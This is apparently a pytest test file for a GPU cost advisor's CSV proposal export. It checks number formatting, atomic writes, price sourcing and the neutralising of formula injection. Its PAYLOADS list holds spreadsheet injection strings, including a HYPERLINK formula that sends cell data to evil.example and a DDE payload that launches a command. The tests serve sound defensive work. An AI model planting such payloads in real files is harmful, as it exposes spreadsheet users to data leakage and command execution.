"""Proposal CSV (core/export/proposal.py): BOM, plain numbers that round-trip through pandas, formula injection made
inert, atomic writes that leave nothing behind on failure, and the source of every price used."""

from __future__ import annotations

import csv
import io
import os
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from gpu_advisor.core.export import proposal as P
from gpu_advisor.core.catalog.model import Catalog
from gpu_advisor.core.base.problems import CatalogError
from gpu_advisor.core.scenario.spec import load_scenario
from gpu_advisor.core.select.recommendation import recommend

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def rec(cat):
    return recommend(cat, load_scenario(EXAMPLES / "startup-engineer-seed000.json", cat))


def test_csv_has_bom_and_round_trips_through_pandas_with_the_same_numbers(rec, cat, tmp_path):
    path = tmp_path / "proposal.csv"
    P.write_csv(path, rec, cat)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
    df = pd.read_csv(path, encoding="utf-8-sig")
    assert list(df.columns) == list(P.CSV_COLUMNS)
    df = df[~df["option"].str.startswith("exchange_rate:")]  # the rates used, after the bills (test_fx_used.py)
    options = [rec.recommendation, *rec.alternatives]
    assert len(df) == sum(len(o.cost_lines) for o in options)
    for col in ("total_cost", "monthly_cost", "quantity", "unit_price", "cost", "gpu_count", "wall_hours"):
        assert pd.api.types.is_numeric_dtype(df[col]), col  # plain numbers, no grouping, no currency signs
    for rank, opt in enumerate(options, start=1):
        rows = df[df["rank"] == rank]
        assert rows["total_cost"].iloc[0] == pytest.approx(opt.total_cost, abs=0.005)
        assert rows["monthly_cost"].iloc[0] == pytest.approx(opt.monthly_cost, abs=0.005)
        assert rows["gpu"].iloc[0] == opt.gpu and rows["billing"].iloc[0] == opt.billing
        assert list(rows["item"]) == [ln.item for ln in opt.cost_lines]
        for (_, row), line in zip(rows.iterrows(), opt.cost_lines):
            assert row["quantity"] == pytest.approx(line.quantity, abs=6e-7)
            if line.cost is None:
                assert pd.isna(row["cost"]) and pd.isna(row["unit_price"])  # missing stays missing, never 0
            else:
                assert row["cost"] == pytest.approx(line.cost, abs=0.005)
                assert row["unit_price"] == pytest.approx(line.unit_price, abs=6e-7)
        # the bill adds up: priced lines sum to the option's total
        assert rows["cost"].sum() == pytest.approx(opt.total_cost, abs=0.01 * len(rows))
    assert df["option"].iloc[0] == "recommendation" and set(df["option"].iloc[1:]) <= {"recommendation", "alternative"}
    assert df.loc[df["item"] == "gpu_instance", "price_source"].str.len().min() > 0  # every instance price sourced


def test_numbers_are_plain():
    assert P.plain_number(1234567.891, 2) == "1234567.89"
    assert P.plain_number(1e-7, 4) == "0"
    assert P.plain_number(2.5e12, 2) == "2500000000000"
    assert P.plain_number(-67.8633, 2) == "-67.86"
    assert P.plain_number(float("nan")) == "" and P.plain_number(None) == "" and P.plain_number(True) == ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise(payload):
    out = P.neutralise(payload)
    assert out == "'" + payload
    assert P.neutralise("A100 (8 GPUs) -x") == "A100 (8 GPUs) -x"  # only a leading character matters


def _poisoned_catalog(cat: Catalog, rec, payload: str) -> Catalog:
    """The catalog with the recommended instance renamed to a formula (a row someone else edited)."""
    inst = cat["instances"]
    opt = rec.recommendation
    mask = (inst["provider"] == opt.provider) & (inst["instance_type"] == opt.instance_type)
    assert mask.any()
    inst.loc[mask, "instance_type"] = payload
    inst.loc[mask, "source"] = "@" + str(inst.loc[mask, "source"].iloc[0])
    return cat.with_table("instances", inst)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injection_payload_in_an_instance_name_comes_out_inert(cat, rec, payload):
    bad = _poisoned_catalog(cat, rec, payload)
    sc = load_scenario(EXAMPLES / "startup-engineer-seed000.json", bad)
    rec2 = recommend(bad, sc)
    assert payload in {o.instance_type for o in [rec2.recommendation, *rec2.alternatives]}
    text = P.csv_bytes(rec2, bad).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + payload in cells
    for cell in cells:  # no text cell starts like a formula; numbers may be negative numbers only
        if cell[:1] in ("=", "+", "@", "\t", "\r"):
            pytest.fail(f"live formula in the CSV: {cell!r}")
        if cell.startswith("-"):
            float(cell)  # a negative number, not text


def test_words_and_labels_are_neutralised_too(rec):
    text = P.csv_bytes(rec, labels={"option": "=label"}, words=lambda c, v: "+word" if c == "billing" else v)
    header = next(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert header[0] == "'=label"
    assert "'+word" in text.decode("utf-8-sig")


def test_unwritable_places_raise_not_writable_and_leave_nothing(rec, tmp_path):
    missing = tmp_path / "no" / "such" / "folder" / "p.csv"
    with pytest.raises(CatalogError) as err:
        P.write_csv(missing, rec)
    assert err.value.problems[0].code == "not_writable" and err.value.problems[0].file == str(missing)
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    with pytest.raises(CatalogError) as err:
        P.write_csv(a_file / "p.csv", rec)
    assert err.value.problems[0].code == "not_writable"
    with pytest.raises(CatalogError):
        P.write_csv(tmp_path, rec)  # a folder is not a file
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file.txt"]


def test_a_failing_write_leaves_neither_a_partial_nor_a_temporary_file(rec, tmp_path, monkeypatch):
    target = tmp_path / "p.csv"
    target.write_bytes(b"previous")

    def boom(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", boom)
    with pytest.raises(CatalogError) as err:
        P.write_csv(target, rec)
    assert "No space left" in err.value.problems[0].detail["reason"]
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["p.csv"]


def test_written_file_gets_normal_permissions(rec, tmp_path):
    path = tmp_path / "p.csv"
    P.write_csv(path, rec)
    assert path.stat().st_mode & 0o044  # readable by others (umask permitting), not the private 0600 of mkstemp


def test_price_sources_name_the_catalog_row_of_every_priced_line(rec, cat):
    sources = P.price_sources(rec, cat)
    kinds = {s.kind for s in sources}
    assert "instance" in kinds
    opt = rec.recommendation
    inst = [
        s
        for s in sources
        if s.kind == "instance" and s.provider == opt.provider and s.product.startswith(opt.instance_type)
    ]
    assert inst and inst[0].source and inst[0].as_of == opt.price_as_of
    if any(ln.fx_rate is not None for ln in opt.cost_lines):
        assert "fx" in kinds
    for s in sources:
        assert s.source, s


def test_rows_follow_the_options(rec):
    rows = P.proposal_rows(rec)
    assert rows[0]["option"] == "recommendation" and rows[0]["item"] == "gpu_instance"
    lost = [r for r in rows if r["option"] == "alternative"]
    assert all(r["why_not_chosen"] for r in lost)  # every alternative says why it lost
    assert P.cost_totals(rec.recommendation)["total_cost"] == pytest.approx(rec.recommendation.total_cost)


def test_no_recommendation_gives_a_header_only_csv(rec):
    empty = replace(rec, recommendation=None, alternatives=())
    text = P.csv_bytes(empty).decode("utf-8-sig")
    assert text.strip().splitlines() == [",".join(P.CSV_COLUMNS)]


@pytest.mark.parametrize("example", ["startup-engineer-seed000.json", "lora-7b-finetune.json",
                                     "h100-8x-training-host.json", "llama-70b-inference-high-qps.json"])
def test_every_priced_line_has_the_date_of_its_catalog_row(cat, example):
    """Disk and data-transfer lines carry their price's date (they were blank): the date of the storage or transfer
    row the pricing took (catalog.cost.storage_products at the disk's size / egress_prices), like the server lines
    carry the instance row's."""
    from gpu_advisor.core.catalog.cost import egress_prices, storage_products

    r = recommend(cat, load_scenario(EXAMPLES / example, cat))
    disks = storage_products(cat).set_index("provider")
    egress = egress_prices(cat).set_index("provider")
    rows = [x for x in P.proposal_rows(r, cat) if x["option"] in ("recommendation", "alternative")]
    seen = set()
    for row in rows:
        item, state = row["item"], row["priced"]
        if state in ("included", "none"):
            continue
        assert row["price_as_of"], (example, row["provider"], item)
        if item in ("system_disk", "data_disk"):  # the product a disk of its size may be (Alibaba 100 GB: PL1)
            host = [r.recommendation, *r.alternatives][row["rank"] - 1].host
            size = host.system_disk_gb if item == "system_disk" else host.data_disk_gb
            d = storage_products(cat, size).set_index("provider").loc[row["provider"]]
            assert disks.loc[row["provider"], "disk_product"] == d["disk_product"] or row["provider"] == "alibaba"
            assert row["product"] == d["disk_product"] and row["price_as_of"] == str(d["disk_as_of"]), row
        elif item == "transfer_out":
            e = egress.loc[row["provider"]]
            assert row["product"] == e["egress_product"] and row["price_as_of"] == str(e["egress_as_of"]), row
        else:
            opt = [r.recommendation, *r.alternatives][row["rank"] - 1]
            assert row["price_as_of"] == opt.price_as_of
        assert row["price_source"], row
        seen.add(item)
    assert {"system_disk", "transfer_out"} <= seen
